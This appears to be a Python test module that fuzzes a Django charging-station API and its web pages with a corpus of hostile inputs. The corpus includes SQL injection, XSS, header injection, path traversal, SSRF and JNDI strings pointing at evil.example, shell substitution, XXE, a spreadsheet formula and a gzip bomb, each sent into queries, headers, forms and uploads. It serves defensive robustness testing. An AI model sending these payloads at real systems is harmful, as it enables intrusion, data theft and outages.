"""Hostile input by class, and the places of a request that it can stand in."""

import gzip
import json
from collections.abc import Callable
from urllib.parse import quote

from django.http import HttpResponseBase
from django.test import Client

LIST, STATION, EXPORTS = "/api/v2/stations/", "/api/v2/stations/aaaaaaaaaaaa/", "/api/v2/exports/"
JSON = "application/json"
_FORM = "application/x-www-form-urlencoded"
_BOUND = "hostile"

# As bytes, as they go over the wire: not all of them are text.
CORPUS: dict[str, bytes] = {
    "NUL": b"a\0b",
    "an escaped NUL": rb'"\000\0"',
    "control characters": b"\x01\x08\x0b\x1b[31m\x7f",
    "line separators": "a\u2028b\u2029c\x85d".encode(),
    "right-to-left override": "\u202egpj.exe\u202c".encode(),
    "characters without width": "a\u200b\u200d\u2060\ufeffb".encode(),
    "combining marks": ("Z" + "\u0315\u0489" * 2_000).encode(),
    "what grows when it is normalised": ("\ufdfa" * 300).encode(),
    "letters that change their length with case": "ßŉİıſΐ".encode(),
    "emoji": "🔌👩\u200d👩\u200d👧🏴\U000e0067\U000e007f".encode(),
    "noncharacters": "\uffff\ufdd0\U0010ffff".encode(),
    "an unpaired surrogate": b"\xed\xa0\x80",
    "an escaped surrogate": rb"\ud800",
    "overlong UTF-8": b"\xc0\xaf\xc0\x80\xe0\x80\xaf",
    "broken UTF-8": b"\xff\xfe\xc3",
    "Latin-1": b"caf\xe9",
    "UTF-16": "52".encode("utf-16"),
    "UTF-7": b"+ADw-script+AD4-",
    "digits of other scripts": "٥٢.５".encode(),
    "a huge number": b"9" * 5_000,
    "a number beyond 64 bits": b"18446744073709551616",
    "a number beyond floats": b"1e999",
    "a huge exponent": b"1e999999",
    "a huge exponent of a negative number": b"-1e999999999",
    "NaN": b"NaN",
    "infinity": b"-Infinity",
    "odd forms of numbers": b"0x10",
    "a number with underscores": b"1_0",
    "a negative zero": b"-0.0",
    "no such day": b"2026-02-30T25:61:61Z",
    "a day before all others": b"0000-00-00T00:00:00Z",
    "nothing but spaces": "  \u3000\t ".encode(),
    "words for nothing": b"null",
    "a name of an object's inside": b"__proto__",
    "brackets in names": b"a[]=1&a[b][c]=2",
    "separators": b"a=1&b=2;c=3,d#e?f",
    "percent signs": b"%%zz%u0041%",
    "percent signs twice": b"%2500%252e",
    "SQL": b"' OR 1=1; DROP TABLE stations_station; --",
    "wild cards": b"%_*?[a-z]\\",
    "a template": b"{{7*7}}{% debug %}${7*7}#{7*7}<%= 7 %>",
    "a format": b"%s%n%(x)s{0.__class__}{}",
    "markup": b"<script>alert(1)</script><svg onload=alert(1)>",
    "an attribute": b"\" onmouseover='alert(1)' x=\"",
    "a script's address": b"javascript:alert(1)//",
    "a header": b"a\r\nSet-Cookie: taken=1\r\n\r\n<html>",
    "a way out of the folder": b"../../../../etc/passwd",
    "an escaped way out": b"..%2f..%2f..%2fetc%2fpasswd",
    "a path of Windows": b"C:\\..\\CON.\\aux",
    "an address inside": b"http://169.254.169.254/latest/meta-data/",
    "another host": b"//evil.example\\@voltway.example/",
    "a shell": b"$(id)`id`;id|id\nid",
    "a look-up": b"${jndi:ldap://evil.example/a}",
    "a directory's filter": b"*)(uid=*))(|(uid=*",
    "an XML entity": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "a formula": b"=cmd|' /C calc'!A0",
    "a pattern that backtracks": b"a" * 3_000 + b"!" + b"(a+)+$",
    "a pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01a\x94.",
    "deep lists": b"[" * 20_000,
    "deep objects": b'{"a":' * 20_000,
    "a name twice": b'{"q":"a","q":["b"],"format":"csv","format":"xlsx"}',
    "an object for a text": b'{"q":{"$gt":""},"format":{"a":1},"email":["x"]}',
    "a list for an object": b'[1,"a",null,{}]',
    "a gzip bomb": gzip.compress(b"\0" * 3_000_000),
    "a file that is two": b"GIF89a/*<script>alert(1)</script>*/=1;",
    "a very long word": b"x" * 30_000,
    "very many words": b"a " * 10_000,
}

Send = Callable[[Client, bytes], HttpResponseBase]


def escaped(payload: bytes) -> str:
    return quote(payload, safe="")


def as_header(payload: bytes) -> str:
    """As servers hand a header's bytes over."""
    return payload.decode("latin-1")


def as_json_text(payload: bytes) -> bytes:
    """A JSON text of it; what is an escape or not text at all goes in as it is."""
    try:
        return json.dumps(payload.decode()).encode() if not payload.startswith(b"\\u") else b'"' + payload + b'"'
    except UnicodeDecodeError:
        return b'"' + payload + b'"'


def header(name: str, path: str = LIST) -> Send:
    return lambda client, payload: client.get(path, headers={name: as_header(payload)})


def form(path: str, name: str, /, **others: str) -> Send:
    """A form's field; the others hold what they should."""
    more = "".join(f"&{other}={quote(value)}" for other, value in others.items())
    return lambda client, payload: client.post(path, f"{name}={escaped(payload)}{more}", content_type=_FORM)


def json_body(path: str, around: bytes = b"%s") -> Send:
    def send(client: Client, payload: bytes) -> HttpResponseBase:
        body = around.replace(b"%s", payload if around == b"%s" else as_json_text(payload))
        return client.post(path, body, content_type=JSON)

    return send


def upload(path: str, *, in_name: bool) -> Send:
    """A file of a form, hostile in its name or in what it holds."""

    def send(client: Client, payload: bytes) -> HttpResponseBase:
        name, content = (payload, b"{}") if in_name else (b"favourites.json", payload)
        body = (
            b'--%b\r\nContent-Disposition: form-data; name="file"; filename="%b"\r\n'
            b"Content-Type: application/json\r\n\r\n%b\r\n--%b--\r\n"
        ) % (_BOUND.encode(), name, content, _BOUND.encode())
        return client.post(path, body, content_type=f"multipart/form-data; boundary={_BOUND}")

    return send


def _query(path: str, name: str) -> Send:
    return lambda client, payload: client.get(path, QUERY_STRING=f"{name}={escaped(payload)}")


def _content_type(client: Client, payload: bytes) -> HttpResponseBase:
    return client.post(EXPORTS, b"{}", content_type=as_header(payload))


def _compressed(client: Client, payload: bytes) -> HttpResponseBase:
    return client.post(EXPORTS, payload, content_type=JSON, headers={"content-encoding": "gzip"})


# Answers of the API are JSON, and problems where something is refused.
IN_API: dict[str, Send] = {
    "the text that is searched": _query(LIST, "q"),
    "a number": _query(LIST, "min_power_kw"),
    "a box": _query(LIST, "bbox"),
    "a place's name": _query(LIST, "place"),
    "a cursor": _query(LIST, "cursor"),
    "a text to be completed": _query("/api/v2/stations/suggestions/", "q"),
    "a parameter's name": lambda client, payload: client.get(LIST, QUERY_STRING=f"{escaped(payload)}=1"),
    "a whole query, not escaped": lambda client, payload: client.get(LIST, QUERY_STRING=as_header(payload)),
    "an id": lambda client, payload: client.get(f"{LIST}{escaped(payload)}/"),
    "a tile": lambda client, payload: client.get(f"/api/v2/tiles/{escaped(payload)}/0/0.mvt"),
    "a path": lambda client, payload: client.get(f"/api/{escaped(payload)}"),
    "Accept": header("accept"),
    "Accept-Language": header("accept-language"),
    "Accept-Encoding": header("accept-encoding"),
    "If-None-Match": header("if-none-match"),
    "If-Modified-Since": header("if-modified-since"),
    "Range": header("range"),
    "Origin": header("origin"),
    "X-Request-ID": header("x-request-id"),
    "X-Forwarded-For": header("x-forwarded-for"),
    "Content-Type": _content_type,
    "a whole body": json_body(EXPORTS),
    "a text of a body": json_body(EXPORTS, b'{"format":"csv","q":%s}'),
    "a closed word of a body": json_body(EXPORTS, b'{"format":%s}'),
    "a name in a body": json_body(EXPORTS, b'{%s:"csv"}'),
    "a body said to be compressed": _compressed,
    "Idempotency-Key": lambda client, payload: client.post(
        EXPORTS, b'{"format":"csv"}', content_type=JSON, headers={"idempotency-key": as_header(payload)}
    ),
    "a body of many stations": json_body("/api/v2/stations/bulk/"),
}
# With a key, none of which is one: such an answer may say so.
WITH_KEYS: dict[str, Send] = {
    "X-Api-Key": header("x-api-key"),
    "Authorization": header("authorization"),
    "a bearer's key": lambda client, payload: client.get(
        LIST, headers={"authorization": "Bearer " + as_header(payload)}
    ),
    "a cookie of the API": header("cookie", STATION),
}
# Answers are pages, or send to one.
ON_PAGES: dict[str, Send] = {
    "a page's search": _query("/", "q"),
    "a page's name of a parameter": lambda client, payload: client.get("/", QUERY_STRING=f"{escaped(payload)}=1"),
    "a page's path": lambda client, payload: client.get(f"/{escaped(payload)}/"),
    "a page's slug": lambda client, payload: client.get(f"/stations/aaaaaaaaaaaa/{escaped(payload)}/"),
    "a session": lambda client, payload: client.get(
        "/accounts/", headers={"cookie": f"sessionid={as_header(payload)}"}
    ),
    "preferences in cookies": lambda client, payload: client.get(
        "/", headers={"cookie": "; ".join(f"{name}={as_header(payload)}" for name in ("units", "theme", "filters"))}
    ),
    "Referer": header("referer", "/"),
    "User-Agent": header("user-agent", "/"),
    "where to go on": _query("/accounts/login/", "next"),
    "an address at log-in": form("/accounts/login/", "login", password="x"),
    "a password at log-in": form("/accounts/login/", "password", login="alice@voltway.example"),
    "an address at sign-up": form("/accounts/signup/", "email", password1="a long pass phrase"),
    "an address to be reset": form("/accounts/password/reset/", "email"),
    "a link of a mail": lambda client, payload: client.get(f"/accounts/confirm-email/{escaped(payload)}/"),
    "preferences": form("/preferences/", "next", units="km"),
    "an export's form": form("/export/", "q", format="csv"),
    "a name of a field": lambda client, payload: client.post(
        "/accounts/login/", f"{escaped(payload)}=1", content_type=_FORM
    ),
    "a whole form, not escaped": lambda client, payload: client.post("/accounts/login/", payload, content_type=_FORM),
    "a file's name": upload("/accounts/login/", in_name=True),
    "what a file holds": upload("/accounts/login/", in_name=False),
}
